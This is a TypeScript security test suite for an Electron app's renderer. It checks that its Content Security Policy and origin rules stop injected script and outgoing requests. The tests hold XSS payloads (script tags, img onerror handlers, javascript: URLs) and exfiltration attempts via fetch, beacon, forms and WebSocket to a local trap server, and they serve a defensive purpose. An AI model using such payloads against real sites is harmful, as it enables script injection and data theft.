import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LoginAgent } from '../../electron/core/ports';
import { startHarness, type Harness } from '../support/harness';

/**
 * The built renderer in Chromium (the harness: real contract, real core) under attack from inside
 * the page, as if hostile text had made it into the DOM: the CSP must stop inline script, inline
 * handlers, eval and javascript: URLs, and nothing may reach another origin (a listening server
 * counts every request). Top-level navigation away is the Electron shell's job (will-navigate,
 * setWindowOpenHandler: tests/security/app-window-handlers.test.ts); the harness can only show
 * that the page offers no way to do it through forms, frames or fetches.
 */

const HOSTILE_HTML = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script><b>bold</b>';

/** Signs in "successfully" at the redirect, but with Salesforce's `error=` and a description full of HTML. */
const hostileRedirectAgent: LoginAgent = {
  async login({ authorizeUrl, redirectUri }) {
    const state = new URL(authorizeUrl).searchParams.get('state')!;
    const redirect = new URL(redirectUri);
    redirect.search = new URLSearchParams({ error: 'server_error', error_description: HOSTILE_HTML, state }).toString();
    return redirect.href;
  },
};

let harness: Harness;
let trap: Server;
let trapUrl: string;
const trapped: string[] = [];

beforeAll(async () => {
  trap = createServer((request, response) => {
    trapped.push(`${request.method} ${request.url}`);
    response.end('ok');
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  // The trap does count what reaches it.
  await (await fetch(`${trapUrl}/probe`)).text();
  expect(trapped.splice(0)).toEqual(['GET /probe']);
  harness = await startHarness({
    demo: { label: 'Acme', loginUrl: 'https://login.salesforce.com', clientId: 'acme-client' },
    loginAgent: () => hostileRedirectAgent,
  });
  await harness.page.getByTestId('connect-demo').waitFor();
});
afterAll(async () => {
  await harness?.close();
  await new Promise((resolve) => trap?.close(resolve));
});

describe('an OAuth error redirect with HTML in its description', () => {
  it('reaches the UI as plain text: shown literally, nothing rendered or run', async () => {
    const { page } = harness;
    await page.getByTestId('connect-demo').click();
    const status = page.getByTestId('login-status');
    await expect.poll(() => status.getAttribute('data-state')).toBe('failed');
    const text = (await status.textContent()) ?? '';
    expect(text).toContain('<img src=x onerror="window.__pwned=1">');
    expect(text).toContain('<script>');
    expect(await status.locator('img, script, b').count()).toBe(0);
    expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
  });

  it('the error value itself is a typed LOGIN_FAILED with the description clipped, never a stack', async () => {
    const connections = (await harness.testCore.call('connections.list')) as { value: { id: string }[] };
    const result = await harness.testCore.call('connections.connect', { id: connections.value[0]!.id });
    expect(result).toMatchObject({ ok: false, error: { code: 'LOGIN_FAILED', message: expect.stringContaining('server_error') } });
    const message = (result as { error: { message: string } }).error.message;
    expect(message.length).toBeLessThan(400);
    expect(message).not.toMatch(/\n\s+at /);
  });
});

describe('the renderer under the CSP', () => {
  it('runs no injected inline script, inline handler, eval or javascript: URL, and reports each as a violation', async () => {
    const outcome = await harness.page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>;
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__inline = 1';
      document.body.append(script);
      const holder = document.createElement('div');
      holder.innerHTML = '<img src="data:," onerror="window.__onerror = 1"><img src="x" onerror="window.__onerror2 = 1">';
      document.body.append(holder);
      // From a timer, not from the evaluate call itself: DevTools' Runtime.evaluate lets eval through the CSP.
      const [evalBlocked, functionBlocked] = await new Promise<[boolean, boolean]>((resolve) =>
        setTimeout(() => {
          const blocked = (run: () => void) => {
            try {
              run();
              return false;
            } catch {
              return true;
            }
          };
          resolve([blocked(() => (0, eval)('window.__eval = 1')), blocked(() => new Function('window.__fn = 1')())]);
        }),
      );
      const link = document.createElement('a');
      link.href = 'javascript:window.__jsurl=1';
      document.body.append(link);
      link.click();
      await new Promise((resolve) => setTimeout(resolve, 500));
      return {
        ran: ['__inline', '__onerror', '__onerror2', '__eval', '__fn', '__jsurl'].filter((name) => name in w),
        evalBlocked,
        functionBlocked,
        violations: [...new Set(violations)].sort(),
      };
    });
    expect(outcome.ran).toEqual([]);
    expect(outcome.evalBlocked).toBe(true);
    expect(outcome.functionBlocked).toBe(true);
    expect(outcome.violations).toEqual(expect.arrayContaining(['script-src', 'script-src-attr', 'script-src-elem']));
  });

  it('sends nothing to another origin: fetch, XHR, beacon, image, frame, form, WebSocket, stylesheet', async () => {
    const errors = await harness.page.evaluate(async (target) => {
      const failures: string[] = [];
      await fetch(`${target}/fetch?token=stolen`).catch(() => failures.push('fetch'));
      await new Promise<void>((resolve) => {
        const xhr = new XMLHttpRequest();
        xhr.onerror = () => (failures.push('xhr'), resolve());
        xhr.onload = () => resolve();
        try {
          xhr.open('GET', `${target}/xhr`);
          xhr.send();
        } catch {
          failures.push('xhr');
          resolve();
        }
      });
      try {
        if (!navigator.sendBeacon(`${target}/beacon`, 'stolen')) failures.push('beacon');
      } catch {
        failures.push('beacon');
      }
      const image = new Image();
      image.src = `${target}/image`;
      const frame = document.createElement('iframe');
      frame.src = `${target}/frame`;
      document.body.append(frame);
      const style = document.createElement('link');
      style.rel = 'stylesheet';
      style.href = `${target}/style.css`;
      document.head.append(style);
      try {
        new WebSocket(target.replace('http', 'ws') + '/socket');
      } catch {
        failures.push('websocket');
      }
      const form = document.createElement('form');
      form.action = `${target}/form`;
      form.method = 'post';
      document.body.append(form);
      form.submit();
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      return failures;
    }, trapUrl);
    expect(errors).toEqual(expect.arrayContaining(['fetch', 'xhr']));
    expect(trapped).toEqual([]);
    // Still the app, on its own page: the form post went nowhere.
    expect(new URL(harness.page.url()).origin).toBe(harness.url);
    await expect(harness.page.getByTestId('connect-demo').isVisible()).resolves.toBe(true);
  });
});

describe('a frame inside the app page', () => {
  it('cannot run script of its own, and its calls are refused as not coming from the app', async () => {
    const { page } = harness;
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.name = 'intruder';
      frame.srcdoc = '<script>window.parent.__fromFrame = 1</script><p>frame</p>';
      document.body.append(frame);
    });
    await expect.poll(() => page.frame({ name: 'intruder' }) !== null).toBe(true);
    const frame = page.frame({ name: 'intruder' })!;
    await frame.waitForLoadState();
    expect(await page.evaluate(() => '__fromFrame' in window)).toBe(false);
    // Even driven from outside (DevTools ignores the CSP), the frame's own bridge is refused by the sender check.
    const result = await frame.evaluate(() => (window as unknown as { budgetly: { app: { info(): Promise<unknown> } } }).budgetly.app.info());
    expect(result).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
  });
});
